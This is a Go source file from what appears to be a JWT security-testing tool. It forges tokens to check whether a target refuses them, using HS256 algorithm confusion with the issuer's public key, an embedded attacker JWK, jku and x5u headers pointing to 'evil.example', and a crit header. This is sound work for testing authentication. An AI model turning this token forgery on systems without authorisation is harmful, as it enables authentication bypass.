package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/go-jose/go-jose/v4"
)

// confusion is attack 5 with keys that are not the issuer's, or not for this: its
// public keys as if they were secrets, and keys that come with the token.
func (c *campaign) confusion(ctx context.Context, header, claims map[string]any) error {
	const name = "HS256 by the issuer's public key"
	keys, err := c.publicKeys(ctx, claims)
	if err != nil {
		c.skip(5, name, "needs the issuer's keys (Target.KeysURL): "+err.Error())
	}
	for _, key := range keys {
		for form, secret := range secretsOf(key) {
			symmetric := with(with(header, "alg", "HS256"), "kid", key.KeyID)
			c.refused(ctx, 5, name+", "+form, c.B.Host, jwt(symmetric, claims, byKey(secret)))
		}
	}
	return c.ownKey(ctx, header, claims)
}

// ownKey sends tokens of a key that the attacker made, and says in each way that
// headers have that it is the one to check them by.
func (c *campaign) ownKey(ctx context.Context, header, claims map[string]any) error {
	own, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return fmt.Errorf("make a key: %w", err)
	}
	payload, err := json.Marshal(claims)
	if err != nil {
		return fmt.Errorf("write claims: %w", err)
	}
	text, _ := header["kid"].(string)
	const elsewhere = "https://evil.example/keys.json"
	for _, forged := range []struct {
		name    string
		options *jose.SignerOptions
	}{
		{"a key of one's own", &jose.SignerOptions{}},
		{"a key of one's own, which the token brings", &jose.SignerOptions{EmbedJWK: true}},
		{"a key of one's own, to which the token leads by jku", (&jose.SignerOptions{}).WithHeader("jku", elsewhere)},
		{"a key of one's own, to which the token leads by x5u", (&jose.SignerOptions{}).WithHeader("x5u", elsewhere)},
		{"a header that has to be understood", (&jose.SignerOptions{}).WithHeader("crit", []string{"attack"})},
	} {
		key := jose.JSONWebKey{Key: own, KeyID: text}
		signer, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.ES256, Key: key}, forged.options.WithType("JWT"))
		if err != nil {
			return fmt.Errorf("sign by a key of one's own: %w", err)
		}
		signed, err := signer.Sign(payload)
		if err != nil {
			return fmt.Errorf("sign by a key of one's own: %w", err)
		}
		token, err := signed.CompactSerialize()
		if err != nil {
			return fmt.Errorf("sign by a key of one's own: %w", err)
		}
		c.refused(ctx, 5, forged.name, c.B.Host, token)
	}
	return nil
}

// secretsOf are the texts of a public key that a careless verifier may have at hand.
func secretsOf(key jose.JSONWebKey) map[string]string {
	secrets := map[string]string{}
	if text, err := key.MarshalJSON(); err == nil {
		secrets["as JSON"] = string(text)
	}
	if der, err := x509.MarshalPKIXPublicKey(key.Key); err == nil {
		secrets["as DER"] = string(der)
		secrets["as PEM"] = string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
	}
	return secrets
}

// publicKeys are the issuer's, from where the target says or discovery leads.
func (c *campaign) publicKeys(ctx context.Context, claims map[string]any) ([]jose.JSONWebKey, error) {
	at := c.KeysURL
	if at == "" {
		issuer, _ := claims["iss"].(string)
		var found struct {
			At string `json:"jwks_uri"`
		}
		if err := c.fetch(ctx, strings.TrimSuffix(issuer, "/")+"/.well-known/openid-configuration", &found); err != nil {
			return nil, err
		}
		at = found.At
	}
	var set jose.JSONWebKeySet
	if err := c.fetch(ctx, at, &set); err != nil {
		return nil, err
	}
	if len(set.Keys) == 0 {
		return nil, errors.New("there is none at " + at)
	}
	return set.Keys, nil
}

// fetch reads JSON from anywhere; the service is not asked.
func (c *campaign) fetch(ctx context.Context, from string, to any) error {
	at, err := url.Parse(from)
	if err != nil || at.Host == "" {
		return fmt.Errorf("%q is no URL", from)
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, from, http.NoBody)
	if err != nil {
		return fmt.Errorf("ask %s: %w", from, err)
	}
	client := http.Client{Timeout: c.Timeout}
	got := read(client.Do(req))
	if got.status != http.StatusOK {
		return fmt.Errorf("%s answers %s", from, got)
	}
	if err := json.Unmarshal([]byte(got.body), to); err != nil {
		return fmt.Errorf("%s has no JSON of this kind: %w", from, err)
	}
	return nil
}
